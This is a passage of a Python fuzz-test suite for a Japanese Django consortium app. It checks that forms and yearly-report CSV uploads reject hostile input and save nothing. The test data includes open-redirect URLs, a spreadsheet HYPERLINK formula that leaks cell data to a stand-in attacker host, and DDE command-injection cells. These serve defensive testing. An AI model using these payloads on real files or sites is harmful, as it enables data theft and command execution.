        extra=("next",)),
    "participation-decide": Form(
        "coordinator", lambda w: f"/working-groups/participations/{w.pending_participation.pk}/decide/",
        lambda w: {"decision": "approve", "reason": ""}, shows_form=False, tells_by_message=True, extra=("next",)),
    "institution-groups": Form(
        "contact", lambda w: "/members/alpha/groups/", lambda w: {"groups": [str(w.energy.pk), str(w.campus.pk)]}),
    "initiative-create": Form(
        "staff", lambda w: "/initiatives/new/", lambda w: _initiative_data(w, w.beta),
        files=(("cover_upload", "image", False),)),
    "initiative-edit": Form(
        "coordinator", lambda w: f"/initiatives/{w.initiative.slug}/edit/", lambda w: _initiative_data(w, None),
        files=(("cover_upload", "image", False),)),
    "initiative-publish": Form(
        "coordinator", lambda w: f"/initiatives/{w.initiative.slug}/publish/", lambda w: {}, shows_form=False,
        tells_by_message=True),
    "initiative-unpublish": Form(
        "secretariat", lambda w: f"/initiatives/{w.published.slug}/unpublish/",
        lambda w: {"reason": "個人情報が含まれていたため"}),
    "initiative-document": Form(
        "coordinator", lambda w: f"/initiatives/{w.initiative.slug}/documents/", lambda w: {"title": "資料"},
        files=(("file", "document", True),), shows_form=False, tells_by_message=True),
    # cooperation: the public need form, expertise by staff
    "need-create": Form(
        None, lambda w: "/needs/new/",
        lambda w: {"title": "公共施設の省エネ診断", "description": "市の施設の省エネ診断をお願いしたいです。",
                   "themes": [str(w.energy.pk)], "help_kind": "advice", "prefecture": "20", "period": "2027年度",
                   "organisation": "みどり野市", "organisation_kind": "municipality", "contact_name": "森 花子",
                   "contact_role": "環境課", "contact_email": "hanako@town.example.jp", "consent": "on"}),
    "expertise-create": Form(
        "staff", lambda w: "/expertise/new/",
        lambda w: {"institution": str(w.beta.pk), "title": "森林の炭素吸収量モニタリング",
                   "description": "ドローンで計測します。", "keywords": "森林, 炭素", "themes": [str(w.energy.pk)],
                   "prefecture_list": ["20", "13"], "language_list": ["ja", "en"], "visibility": "public"}),
    # cooperation: staff offer help, reviewers decline or ask, the submitter corrects, the expertise's
    # author edits it, an initiative's editor links or creates partners
    "need-interest": Form(
        "staff", lambda w: f"/needs/{w.need.pk}/interest/",
        lambda w: {"institution": str(w.beta.pk), "message": "乙大学として協力できます。"}, shows_form=False,
        hostile=lambda w: {"institution": [w.alpha.pk, w.need.pk, w.expertise.pk]}),
    "need-decline": Form(
        "coordinator", lambda w: f"/needs/{w.waiting_need.pk}/decline/", lambda w: {"reason": "対象外のため"},
        shows_form=False),
    "need-return": Form(
        "secretariat", lambda w: f"/needs/{w.waiting_need.pk}/return/",
        lambda w: {"reason": "対象の施設はいくつですか。"}, shows_form=False),
    "need-edit": Form(
        None, lambda w: f"/needs/edit/{need_edit_token(w.returned_need)}/",
        lambda w: {"title": "公共施設の省エネ診断（3施設）", "description": "市の3施設です。",
                   "themes": [str(w.energy.pk)], "help_kind": "advice", "prefecture": "20", "period": "2027年度",
                   "organisation": "みどり野市", "organisation_kind": "municipality", "contact_name": "森 花子",
                   "contact_role": "環境課", "consent": "on"},
        hostile=lambda w: {"themes": [w.general.pk, w.alpha.pk]}),
    "expertise-edit": Form(
        "staff", lambda w: f"/expertise/{w.expertise.pk}/edit/",
        lambda w: {"title": "森林の炭素吸収量モニタリング", "description": "ドローンで計測します。",
                   "keywords": "森林, 炭素", "themes": [str(w.energy.pk)], "prefecture_list": ["20"],
                   "language_list": ["ja"], "visibility": "public", "contact": str(w.staff.pk)},
        hostile=lambda w: {"contact": [w.contact.pk, w.coordinator.pk, w.secretariat.pk],
                           "institution": [w.alpha.pk]}),
    "partner-link": Form(
        "coordinator", lambda w: f"/initiatives/{w.initiative.slug}/partners/",
        lambda w: {"action": "link", "partner": str(w.partner.pk)}, tells_by_message=True,
        hostile=lambda w: {"partner": [w.need.pk, w.alpha.pk, "0"], "action": ["unlink", "create", "delete"]}),
    "partner-create": Form(
        "coordinator", lambda w: f"/initiatives/{w.initiative.slug}/partners/",
        lambda w: {"action": "create", "kind": "company", "name_ja": "あおぞら電力", "name_en": "Aozora Power",
                   "prefecture": "20", "website": "https://aozora.example.co.jp"},
        hostile=lambda w: {"action": ["link", "unlink"]}),
    # progress: a contact's yearly figures and commitment, the secretariat's review and deadline,
    # staff recording an adoption and asking, the author answering
    "report-create": Form(
        "contact", lambda w: "/members/alpha/progress/reports/new/",
        lambda w: {"fiscal_year": str(current_fiscal_year() - 1), "scope1": "120.5", "scope2": "340",
                   "scope3": "", "energy_gj": "15000", "renewable_share": "25.5", "floor_area": "120000",
                   "headcount": "8000", "narrative_ja": "照明をLEDに更新しました。", "narrative_en": "",
                   "data_notes": "電力会社の請求書より", "submit": "1"},
        hostile=lambda w: {"fiscal_year": [w.report.fiscal_year, current_fiscal_year() + 1, 1900]}),
    "commitment": Form(
        "contact", lambda w: "/members/alpha/progress/commitment/",
        lambda w: {"target_year": "2050", "baseline_year": "2013", "baseline_emissions": "1000",
                   "interim_year": "2030", "interim_reduction": "46", "visibility": "public"}),
    "report-review": Form(
        "secretariat", lambda w: f"/secretariat/progress/{w.report.pk}/",
        lambda w: {"decision": "return", "comment": "電力の排出係数を確認してください。"}),
    "report-deadline": Form(
        "secretariat", lambda w: "/secretariat/progress/",
        lambda w: {"fiscal_year": str(current_fiscal_year() - 1),
                   "due_on": (timezone.localdate() + datetime.timedelta(days=60)).isoformat()},
        shows_form=False),
    "adoption": Form(
        "staff", lambda w: f"/initiatives/{w.published.slug}/adopt/",
        lambda w: {"institution": str(w.beta.pk), "kind": "adapted", "year": "2024", "changes": "規模を縮小",
                   "result": ""},
        hostile=lambda w: {"institution": [w.alpha.pk], "result": [w.initiative.pk, w.published.pk]}),
    "question-ask": Form(
        "staff", lambda w: f"/initiatives/{w.published.slug}/questions/", lambda w: {"body": "費用は？"}),
    "question-answer": Form(
        "coordinator", lambda w: f"/initiatives/{w.published.slug}/questions/{w.question.pk}/answer/",
        lambda w: {"answer": "約3千万円でした。", "is_public": "on"}),
    # meetings
    "meeting-create": Form("coordinator", lambda w: "/meetings/new/", _meeting_data),
    "meeting-edit": Form("coordinator", lambda w: f"/meetings/{w.meeting.pk}/edit/", _meeting_edit_data),
    "meeting-cancel": Form("coordinator", lambda w: f"/meetings/{w.meeting.pk}/cancel/",
                           lambda w: {"reason": "台風のため"}),
    "registration": Form(
        "staff", lambda w: f"/meetings/{w.meeting.pk}/register/", lambda w: {"mode": "in_person"},
        shows_form=False, tells_by_message=True),
    "decline": Form("member", lambda w: f"/meetings/{w.meeting.pk}/decline/", lambda w: {}, shows_form=False,
                    tells_by_message=True),
    "registration-cancel": Form(
        "member", lambda w: f"/meetings/{w.meeting.pk}/registration/cancel/", lambda w: {}, shows_form=False,
        tells_by_message=True),
    "calendar-renew": Form("user", lambda w: "/account/calendar/renew/", lambda w: {}, shows_form=False),
    "attendance": Form(
        "coordinator", lambda w: f"/meetings/{w.meeting.pk}/participants/",
        lambda w: {"attended": [str(w.registration.pk)]}, shows_form=False),
    "minutes": Form("coordinator", lambda w: f"/meetings/{w.meeting.pk}/minutes/",
                    lambda w: {"minutes": "## 決定事項\n\n承認されました。", "action": "publish"}),
    "meeting-document": Form(
        "coordinator", lambda w: f"/meetings/{w.meeting.pk}/documents/", lambda w: {"title": "当日資料"},
        files=(("file", "document", True),), shows_form=False, tells_by_message=True),
    # the general meeting's decisions and the secretariat's messages
    "motion-create": Form(
        "secretariat", lambda w: f"/general-meeting/{w.session.pk}/motions/new/",
        lambda w: {"kind": "other", "title_ja": "予算の承認", "title_en": "Budget", "text_ja": "予算案を承認する。",
                   "text_en": "", "proposer": "secretariat", "proposer_institution": "", "group_slug": "",
                   "group_name_ja": "", "group_name_en": "", "group": ""}),
    "motion-edit": Form(
        "secretariat", lambda w: f"/motions/{w.draft_motion.pk}/edit/",
        lambda w: {"kind": "group_create", "title_ja": "水資源WGの設置", "title_en": "", "text_ja": "設置する。",
                   "text_en": "", "proposer": "member", "proposer_institution": str(w.alpha.pk),
                   "group_slug": "water", "group_name_ja": "水資源WG", "group_name_en": "Water WG", "group": ""}),
    "motion-propose": Form(
        "representative", lambda w: f"/general-meeting/{w.session.pk}/motions/propose/",
        lambda w: {"institution": str(w.alpha.pk), "kind": "statement", "title_ja": "共同声明", "title_en": "",
                   "text_ja": "声明文", "text_en": "", "group_slug": "", "group_name_ja": "", "group_name_en": "",
                   "group": ""}),
    "motion-open": Form(
        "secretariat", lambda w: f"/motions/{w.agenda_motion.pk}/open/",
        lambda w: {"closes_at": (timezone.localtime() + datetime.timedelta(days=5)).strftime("%Y-%m-%dT%H:%M")},
        shows_form=False, tells_by_message=True),
    "motion-return": Form("secretariat", lambda w: f"/motions/{w.proposal.pk}/return/",
                          lambda w: {"reason": "議案の趣旨を明確にしてください。"}, shows_form=False,
                          tells_by_message=True),
    "motion-withdraw": Form("secretariat", lambda w: f"/motions/{w.agenda_motion.pk}/withdraw/",
                            lambda w: {"reason": "提案者の申し出により"}, shows_form=False, tells_by_message=True),
    "vote": Form("representative", lambda w: f"/motions/{w.voting_motion.pk}/vote/",
                 lambda w: {"institution": str(w.alpha.pk), "choice": "for"}, shows_form=False,
                 tells_by_message=True),
    "proxy": Form("representative", lambda w: f"/general-meeting/{w.session.pk}/proxy/",
                  lambda w: {"institution": str(w.alpha.pk), "holder": str(w.contact.pk)}, shows_form=False,
                  tells_by_message=True),
    "message-create": Form(
        "secretariat", lambda w: "/messages/new/",
        lambda w: {"audience": "group", "group": str(w.energy.pk), "subject_ja": "会合のご案内",
                   "body_ja": "本文です。", "subject_en": "", "body_en": ""}),
    "message-edit": Form(
        "secretariat", lambda w: f"/messages/{w.message.pk}/edit/",
        lambda w: {"audience": "members", "group": "", "subject_ja": "全体連絡", "body_ja": "本文です。",
                   "subject_en": "Notice", "body_en": "The text."}),
    "visitor-register": Form(
        None, lambda w: f"/meetings/{w.symposium.pk}/visitors/register/",
        lambda w: {"name": "一般 参加者", "email": "visitor@example.net", "affiliation": "みどり野市", "mode": "online",
                   "language": "ja"}),
    # allauth, with our sign-up form
    "signup": Form(
        None, lambda w: "/accounts/signup/",
        lambda w: {"email": "new@gamma.example.ac.jp", "name": "新規 太郎", "language": "ja",
                   "password1": "a-Long passw0rd!", "password2": "a-Long passw0rd!"}),
    "login": Form(None, lambda w: "/accounts/login/",
                  lambda w: {"login": "someone@alpha.example.ac.jp", "password": "correct horse battery staple"}),
    "password-reset": Form(None, lambda w: "/accounts/password/reset/",
                           lambda w: {"email": "someone@alpha.example.ac.jp"}),
}


def choice_values(form_field) -> list[str]:
    """The values a choice field offers (as the page sends them)."""
    out = []
    for value, label in getattr(form_field, "choices", ()):
        if isinstance(label, list | tuple):  # an optgroup
            out += [str(v) for v, _ in label]
        else:
            out.append(str(getattr(value, "value", value)))
    return [v for v in out if v != ""]


class Prepared:
    """A form ready to be posted: its person signed in, its accepted post, and the values each
    field offers."""

    def __init__(self, name: str, spec: Form, path: str, valid: dict, alternatives: dict, rows: dict):
        self.name, self.spec, self.path, self.valid, self.alternatives = name, spec, path, valid, alternatives
        self.rows = rows  # every example starts from these (each is rolled back)

    def __repr__(self):
        return f"<form {self.name}: {self.path}>"


@pytest.fixture(params=list(FORMS))
def form_case(request, world, client) -> Prepared:
    spec = FORMS[request.param]
    if spec.who:
        client.force_login(getattr(world, spec.who))
    path = spec.path(world)
    valid = spec.valid(world)
    alternatives = {name: list(value) if isinstance(value, list) else [value] for name, value in valid.items()}
    if spec.shows_form:
        response = client.get(f"/ja{path}")
        assert response.status_code == 200, f"{request.param}: the form does not open ({response.status_code})"
        for form in bound_or_unbound_forms(response):
            for name, form_field in form.fields.items():
                alternatives.setdefault(form.add_prefix(name), []).extend(choice_values(form_field))
    for name in spec.extra:
        alternatives.setdefault(name, ["/ja/", "https://evil.example/", "//evil.example"])
    for name, hostile in (spec.hostile(world) if spec.hostile else {}).items():
        alternatives.setdefault(name, []).extend(str(v) for v in hostile)
    return Prepared(request.param, spec, path, valid, alternatives, snapshot())


def bound_or_unbound_forms(response):
    forms = []
    for key in FORM_KEYS:
        try:
            obj = response.context[key]
        except KeyError:
            continue
        forms += list(obj.forms) if hasattr(obj, "forms") else [obj]
    return forms


@st.composite
def posts(draw, case: Prepared):
    """The accepted post with up to four fields changed (to arbitrary text, to another of their
    values, missing, or repeated) and perhaps names the form does not know."""
    data = dict(case.valid)
    names = sorted(set(case.alternatives) | {f for f, _, _ in case.spec.files})
    for name in draw(st.lists(st.sampled_from(names), max_size=4, unique=True)) if names else []:
        kinds = {f: (kind, required) for f, kind, required in case.spec.files}
        if name in kinds:
            kind = kinds[name][0]
            data[name] = draw(st.one_of(st.none(), csv_uploads() if kind == "csv" else uploads(kind)))
        else:
            data[name] = draw(values(case.alternatives.get(name, ())))
    for _ in range(draw(st.integers(0, 2))):
        data[draw(st.text(CHARACTERS, min_size=1, max_size=12))] = draw(texts())
    for name, kind, required in case.spec.files:
        if name not in data and required:  # an accepted post carries its file
            data[name] = SimpleUploadedFile("members.csv", "\n".join(
                [",".join(IMPORT_COLUMNS), ",".join(VALID_CSV_ROW[c] for c in IMPORT_COLUMNS)]).encode(),
                content_type="text/csv") if kind == "csv" else SimpleUploadedFile("slides.pdf", PDF, "application/pdf")
    return {k: v for k, v in data.items() if v is not None}


ADDRESSES = (f"10.{a}.{b}.{c}" for a, b, c in itertools.product(range(256), repeat=3))


def assert_refused_changes_nothing(before, files_before, media, where):
    assert snapshot() == before, f"{where}: a refused post changed rows (half-saved)"
    assert stored_files(media) == files_before, f"{where}: a refused post stored a file"


@settings(FUZZ, max_examples=FORM_EXAMPLES)
@given(data=st.data())
def test_form_answers_any_post_without_error_and_saves_nothing_it_refuses(client, world, form_case, media, data):
    """Posted as its person, in either language: never a 5xx; a refusal (the form again, an error
    message after the redirect, a 4xx) explains itself in the page's language and changes nothing;
    a form whose outcome does not depend on what is posted (the one-click unsubscribe) has it."""
    case = form_case
    lang = data.draw(st.sampled_from(LANGS), label="lang")
    post = data.draw(posts(case), label="post")
    client.cookies.pop("messages", None)
    files_before = stored_files(media)
    before = case.rows
    with transaction.atomic():
        response = client.post(f"/{lang}{case.path}", post, REMOTE_ADDR=next(ADDRESSES))
        status = response.status_code
        submitted = submitted_strings(post)
        messages = queued_messages(response)
        assert status < 500, f"{case.name}: {status}"
        assert_in_language([str(m.message) for m in messages], lang, submitted, f"{case.name}: message")
        refused_by_message = any(m.level >= message_levels.ERROR for m in messages)
        if status == 302:
            if case.spec.who:  # still signed in: the example really acted as its person
                assert "/accounts/login/" not in response["Location"], f"{case.name}: signed out"
            if refused_by_message:
                assert_refused_changes_nothing(before, files_before, media, case.name)
        elif status == 200 and not case.spec.accepted_with_200:
            assert_form_explains(response, lang, submitted)
            assert_refused_changes_nothing(before, files_before, media, case.name)
        elif status != 200:
            assert status in (400, 403, 404, 429), f"{case.name}: {status}"
            assert_refused_changes_nothing(before, files_before, media, case.name)
        if case.spec.outcome is not None:
            case.spec.outcome(world, response)
        transaction.set_rollback(True)


# ---------------------------------------------------------------------------------------------
# The yearly reports' CSV upload (progress): hostile files
# ---------------------------------------------------------------------------------------------

# A contact uploads a year's figures per row (working_groups/progress/services.py reports_upload).
# The generic form test above cannot say whether a file *should* be refused; these build the file
# and know: each defect they put in is a (line, column) the answer must name, or a file-level fault
# (encoding, columns, size) the form's file error must name. A file without a defect is imported,
# its figures are stored as written, and the same file again changes nothing.

REPORT_UPLOAD = "/members/alpha/progress/reports/upload/"
REQUIRED_REPORT_COLUMNS = ["fiscal_year", "scope1", "scope2", "energy_gj", "renewable_share", "floor_area",
                           "headcount"]
TEXT_REPORT_COLUMNS = ["narrative_ja", "narrative_en", "data_notes"]
DECIMAL_REPORT_COLUMNS = ["scope1", "scope2", "scope3", "energy_gj", "renewable_share"]
EOL = re.compile(r"\r\n|\r|\n")
# cells every number column refuses (an empty one only where the column is required)
BAD_NUMBERS = ["-1", "-0.1", "abc", "1,000", "1 000", "=1+1", "+SUM(A1)", "@SUM(1)", "NaN", "Infinity", "-inf",
               "sNaN", "1e309", "0.05", "9" * 30, "9" * 5000, "0x10", "１２.３４", "1.2.3", "1e-400"]
BAD_CELLS = {
    "scope1": ["10000000.1", "10000001", "2e7"],
    "scope2": ["10000000.1", "12345678", "1E8"],  # a unit error: 10 million t-CO2e is no university's
    "scope3": ["10000000.1", "99999999999"],
    "energy_gj": ["100000000.1", "1e9"],
    "renewable_share": ["100.1", "101", "1e3", "150"],
    "floor_area": ["0", "1.5", "1e3", "50000001", "-5"],
    "headcount": ["0", "2.5", "1000001", "-1"],
}
FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?leak="&A1,"詳細")', "=cmd|' /C calc'!A0", "+81-3-1234-5678",
                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", " =1+1", "＝1+1", "＠SUM(1)"]
NARRATIVE = st.text(st.sampled_from(list("森林電力太陽光省エネ化を進めたLED照明。、ーあいうabcXYZ019 ,;\"'\n")),
                    max_size=40).filter(lambda s: not s.strip().startswith(FORMULA_STARTS))


def _csv_line(cells, eol) -> str:
    """One row as a spreadsheet writes it: a cell with a comma, a quotation mark or a line end
    quoted (the csv module quotes only the line end it writes)."""
    return ",".join('"' + c.replace('"', '""') + '"' if re.search(r'[,"\r\n]', c) else c for c in cells) + eol


def _valid_row(draw, year) -> dict:
    def decimal(top):
        return draw(st.one_of(st.integers(0, top).map(str),
                              st.decimals(0, top, places=1, allow_nan=False, allow_infinity=False).map(str)))

    return {
        "fiscal_year": str(year), "scope1": decimal(10_000_000), "scope2": decimal(10_000_000),
        "scope3": draw(st.one_of(st.just(""), st.just(decimal(10_000_000)))), "energy_gj": decimal(100_000_000),
        "renewable_share": decimal(100), "floor_area": str(draw(st.integers(1, 50_000_000))),
        "headcount": str(draw(st.integers(1, 1_000_000))), "narrative_ja": draw(NARRATIVE),
        "narrative_en": draw(NARRATIVE), "data_notes": draw(NARRATIVE),
    }


@dataclass
class ReportFile:
    """A file to upload and what the upload must answer."""

    data: bytes
    rows: dict  # fiscal year -> the row's cells by column (the file's values; when nothing is wrong)
    columns: list  # the file's columns (normalised names)
    defects: list  # [(line, column or None)]: each must be named by a row error
    file_fault: list | None = None  # markers the file error must contain; None: the file is read
    cells: list = None  # every cell, for the language check

    def __repr__(self):
        return (f"<csv {len(self.data)} bytes, defects {self.defects}, file fault {self.file_fault}: "
                f"{self.data[:300]!r}>")


@st.composite
def report_files(draw, locked_year: int, last: int):
    """A yearly reports file: the template's columns (reordered, some optional ones left out,
    names in another case or with spaces), rows with valid figures, in UTF-8 (BOM or not) or
    Shift_JIS with LF, CRLF or CR; then perhaps bad cells (each a defect of its line and column),
    a year twice, a row with a cell too many or too few, and perhaps one fault of the whole file."""
    columns = [c for c in services_upload_columns() if c in REQUIRED_REPORT_COLUMNS or draw(st.booleans())]
    columns = draw(st.permutations(columns))
    header = [draw(st.sampled_from([c, c.upper(), f" {c} ", c.title()])) for c in columns]
    years = draw(st.lists(st.integers(last - 12, last).filter(lambda y: y != locked_year), max_size=4, unique=True))
    rows = [_valid_row(draw, year) for year in years]
    defects = []  # (row index, column or None)
    mutated = set()
    extra_cells = {}
    # In file order, so that the earlier row "twice" copies its year from (one not changed) is not
    # changed after the copy: a new year, or a cell too many or too few (its year never read), would
    # leave the copied year once in the file, which is no defect.
    for i in sorted(draw(st.lists(st.sampled_from(range(len(rows))), max_size=3, unique=True)) if rows else []):
        how = draw(st.sampled_from(["number", "range", "formula", "long", "year", "twice", "locked", "cells",
                                    "empty"]))
        number_columns = [c for c in columns if c in DECIMAL_REPORT_COLUMNS + ["floor_area", "headcount"]]
        text_columns = [c for c in columns if c in TEXT_REPORT_COLUMNS]
        if how == "number":
            column = draw(st.sampled_from(number_columns))
            rows[i][column] = draw(st.sampled_from(BAD_NUMBERS))
        elif how == "range":
            column = draw(st.sampled_from([c for c in number_columns if c in BAD_CELLS]))
            rows[i][column] = draw(st.sampled_from(BAD_CELLS[column]))
        elif how in ("formula", "long") and text_columns:
            column = draw(st.sampled_from(text_columns))
            rows[i][column] = draw(st.sampled_from(FORMULA_CELLS)) if how == "formula" else "あ" * 2001
        elif how == "year":
            column = "fiscal_year"
            rows[i][column] = draw(st.sampled_from(["", "FY2020", "2020.0", "-2020", "1999", "=2020", "9" * 30,
                                                    "9" * 5000, str(last + 1), str(last + 5), "0x7e4"]))
        elif how == "twice" and any(j < i and j not in mutated for j in range(len(rows))):
            column = "fiscal_year"
            rows[i][column] = rows[draw(st.sampled_from([j for j in range(i) if j not in mutated]))]["fiscal_year"]
        elif how == "locked":
            column = "fiscal_year"
            rows[i][column] = str(locked_year)
        elif how == "cells":
            column = None
            extra_cells[i] = draw(st.sampled_from([1, -1]))
        elif how == "empty":
            column = draw(st.sampled_from(REQUIRED_REPORT_COLUMNS))
            rows[i][column] = draw(st.sampled_from(["", " ", "\u3000"]))
        else:
            continue
        mutated.add(i)
        defects.append((i, column))
    eol = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    pieces = [_csv_line(header, eol)]
    starts = []
    for i, row in enumerate(rows):
        if draw(st.integers(0, 5)) == 0:
            pieces.append(eol)  # a blank line is skipped
        starts.append(len(pieces))
        cells = [row[c] for c in columns]
        if extra_cells.get(i) == 1:
            cells.append("x")
        elif extra_cells.get(i) == -1:
            cells = cells[:-1]
        pieces.append(_csv_line(cells, eol))

    def line_of(piece):
        return 1 + sum(len(EOL.findall(p)) for p in pieces[:piece])

    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp932"]))
    text = "".join(pieces)
    data = text.encode(encoding)
    file_fault = None
    fault = draw(st.sampled_from([None] * 6 + ["missing", "duplicate", "unknown", "utf-16", "utf-16-le", "byte",
                                               "nul", "empty", "header", "binary", "huge", "rows", "quote",
                                               "field"]))
    if fault == "missing":
        gone = draw(st.sampled_from(REQUIRED_REPORT_COLUMNS))
        keep = [n for n, c in enumerate(columns) if c != gone]
        lines = [_csv_line([header[n] for n in keep], eol)] + [
            _csv_line([row[columns[n]] for n in keep], eol) for row in rows]
        data, file_fault = "".join(lines).encode(encoding), [gone]
    elif fault in ("duplicate", "unknown"):
        name = draw(st.sampled_from(columns)) if fault == "duplicate" else draw(
            st.sampled_from(["scope_3", "備考", "extra", "Scope 1"]))
        lines = [_csv_line([*header, name], eol)] + [_csv_line([*(row[c] for c in columns), "1"], eol)
                                                       for row in rows]
        data, file_fault = "".join(lines).encode(encoding), [name.strip().lower()]
    elif fault in ("utf-16", "utf-16-le"):
        data, file_fault = text.encode(fault), ["UTF-16"]
    elif fault == "byte" and rows:
        at = len("".join(pieces[:starts[-1]]).encode(encoding))
        data, file_fault = data[:at] + b"\xff" + data[at:], [line_marker(line_of(starts[-1]))]
    elif fault == "nul":
        at = draw(st.integers(0, len(text)))
        text = text[:at] + "\x00" + text[at:]
        data, file_fault = text.encode(encoding), [line_marker(1 + len(EOL.findall(text[:at])))]
    elif fault == "empty":
        data, file_fault = draw(st.sampled_from([b"", b"\xef\xbb\xbf", b"\n\n", b"\r\n"])), []
    elif fault == "header":
        data, file_fault = pieces[0].encode(encoding), []
    elif fault == "binary":
        data = draw(st.one_of(st.binary(min_size=1, max_size=300).filter(lambda b: b"\x00" in b or b"\xff" in b),
                              st.sampled_from([_image("PNG"), PDF, b"PK\x03\x04" + b"\x00" * 30])))
        file_fault = []
    elif fault == "huge":
        data, file_fault = data + b"x" * (256 * 1024 + 1 - len(data)) + b"\n", ["256"]
    elif fault == "rows":
        # a valid row, as many times as stay under the size limit: the first row may carry a long
        # cell ("あ" * 2001, 5000 digits), and 101 of those make a file the size limit refuses first
        line = _csv_line([_valid_row(draw, last)[c] for c in columns], eol)
        most = (256 * 1024 - len(pieces[0].encode(encoding))) // len(line.encode(encoding))
        data, file_fault = (pieces[0] + line * draw(st.integers(101, min(400, most)))).encode(encoding), ["100"]
    elif fault == "quote":
        data, file_fault = (text + '"' + "森林" * 3 + eol + "2020,1").encode(encoding), [
            line_marker(1 + len(EOL.findall(text)))]
    elif fault == "field" and rows:
        data, file_fault = (text + '"' + "x" * 140_000 + '"' + eol).encode(encoding), [
            line_marker(1 + len(EOL.findall(text)))]
    if file_fault is None and not rows:
        file_fault = []  # the columns and no row: nothing to import is said as such
    cells = [v for row in rows for v in row.values()] + header
    return ReportFile(data=data, rows={int(r["fiscal_year"]): r for r in rows} if not defects else {},
                      columns=columns, defects=[(line_of(starts[i]), c) for i, c in defects],
                      file_fault=file_fault, cells=cells)


def services_upload_columns():
    from working_groups.progress.services import UPLOAD_COLUMNS

    return UPLOAD_COLUMNS


def line_marker(line: int) -> int:
    """A line the file error must name (as \"3行目\" or \"Line 3\", in the page's language)."""
    return line


def _stored(report, column):
    value = getattr(report, column)
    return "" if value is None else value


def _written(column, cell: str):
    cell = cell.strip()
    if column in TEXT_REPORT_COLUMNS:
        return cell
    if cell == "":
        return ""
    from decimal import Decimal

    return Decimal(cell) if column in DECIMAL_REPORT_COLUMNS else int(cell)


def check_report_upload(client, lang: str, upload: ReportFile, *, dry_run: bool, where: str):
    """Post ``upload`` as alpha's contact: never a 5xx; a file with a defect is refused with each
    defect named (its line, and its column for a cell), in the page's language, and nothing
    changes; a file without one is imported as written (a dry run changes nothing), and the same
    file a second time changes nothing."""
    before = snapshot()
    existing = {r.fiscal_year: r for r in YearlyReport.objects.filter(institution__slug="alpha")}

    def post():
        return client.post(f"/{lang}{REPORT_UPLOAD}", {
            "file": SimpleUploadedFile("reports.csv", upload.data, content_type="text/csv"),
            "check" if dry_run else "import": "1"})

    response = post()
    status = response.status_code
    assert status < 500, f"{where}: {status}"
    refused = upload.file_fault is not None or upload.defects
    if refused:
        assert status == 200, f"{where}: a bad file answered {status}"
        assert snapshot() == before, f"{where}: a refused file changed rows"
        page = response.content.decode()
        form, result = response.context["form"], response.context["result"]
        if upload.file_fault is not None:
            said = [str(m) for m in form.errors.get("file", [])]
            assert said, f"{where}: a bad file, but no error at the file: {result and result.errors}"
            assert_error_next_to(page, "file")
            for marker in upload.file_fault:
                if isinstance(marker, int):
                    marker = f"{marker}行目" if lang == "ja" else f"Line {marker}"
                assert any(marker in m for m in said), f"{where}: {marker!r} is not named in {said}"
        else:
            assert result is not None and result.errors, f"{where}: bad rows, but no row error: {form.errors}"
            said = [str(m) for _line, m in result.errors]
            for line, column in upload.defects:
                at_line = [str(m) for n, m in result.errors if n == line]
                assert at_line, f"{where}: line {line} ({column}) is not named: {result.errors}"
                if column:
                    assert any(column in m for m in at_line), f"{where}: {column} is not named: {at_line}"
            for line, _column in upload.defects:
                assert (f"{line}行目" if lang == "ja" else f"Line {line}") in page, f"{where}: line {line} not shown"
        assert_in_language(said, lang, upload.cells + services_upload_columns(), f"{where}: upload error")
        return
    errors = (response.context["result"].errors if status == 200 and response.context.get("result") else
              response.context["form"].errors if status == 200 else None)
    if dry_run:
        assert status == 200 and response.context["result"].ok, f"{where}: a good file was refused: {errors}"
        assert snapshot() == before, f"{where}: a dry run changed rows"
        return
    assert status == 302, f"{where}: a good file was refused ({status}): {errors}"
    stored = {r.fiscal_year: r for r in YearlyReport.objects.filter(institution__slug="alpha")}
    for year, row in upload.rows.items():
        report = stored[year]
        assert report.status in ("draft", "returned"), f"{where}: FY{year} is {report.status}"
        for column in upload.columns:
            if column != "fiscal_year":
                assert _stored(report, column) == _written(column, row[column]), \
                    f"{where}: FY{year} {column} is {getattr(report, column)!r}, the file said {row[column]!r}"
        for column in set(services_upload_columns()) - set(upload.columns):  # a column left out: unchanged
            if year in existing:
                assert getattr(report, column) == getattr(existing[year], column), \
                    f"{where}: FY{year} {column} changed though the file has no such column"
    assert set(stored) == set(existing) | set(upload.rows), f"{where}: other years changed"
    after = snapshot()
    again = post()
    assert again.status_code == 302, f"{where}: the same file a second time: {again.status_code}"
    assert snapshot() == after, f"{where}: the same file a second time changed rows"


@pytest.fixture
def report_upload(client, world):
    """alpha's contact signed in; alpha has a report under review (``world.report``) and a draft
    the files may change."""
    last = current_fiscal_year() - 1
    YearlyReport.objects.create(
        institution=world.alpha, fiscal_year=last - 3, scope1=10, scope2=20, energy_gj=100, renewable_share=5,
        floor_area=1000, headcount=50, narrative_ja="前年の取組", data_notes="請求書")
    client.force_login(world.contact)
    return world.report.fiscal_year, last


@settings(FUZZ, max_examples=FORM_EXAMPLES * 2)
@given(data=st.data())
def test_report_upload_answers_any_file_and_saves_only_a_good_one(client, world, report_upload, data):
    """Hostile yearly-report files (encodings, line ends, columns, cells, sizes, binaries), in either
    language, checked or imported: never a 5xx; what is wrong is named by line and column, in the
    page's language, and changes nothing; a good file is imported as written, once."""
    locked, last = report_upload
    lang = data.draw(st.sampled_from(LANGS), label="lang")
    upload = data.draw(report_files(locked, last), label="file")
    dry_run = data.draw(st.booleans(), label="dry_run")
    with transaction.atomic():
        check_report_upload(client, lang, upload, dry_run=dry_run, where="upload")
        transaction.set_rollback(True)


def _file(text: str, encoding="utf-8") -> bytes:
    return text.encode(encoding)


UPLOAD_HEADER = ("fiscal_year,scope1,scope2,scope3,energy_gj,renewable_share,floor_area,headcount,narrative_ja,"
                 "narrative_en,data_notes")


def _good(year, **cells) -> str:
    row = {"fiscal_year": str(year), "scope1": "1200.5", "scope2": "3400", "scope3": "", "energy_gj": "65000",
           "renewable_share": "18.5", "floor_area": "120000", "headcount": "9000", "narrative_ja": "LED化を進めました",
           "narrative_en": "", "data_notes": "", **cells}
    return _csv_line([row[c] for c in UPLOAD_HEADER.split(",")], "\n")


def _cases(last, locked):
    """The hostile files the issue names, one each: (file, row defects, file fault)."""
    h = UPLOAD_HEADER + "\n"
    good = h + _good(last) + _good(last - 2)
    return {
        "shift_jis": (_file(good, "cp932"), [], None),
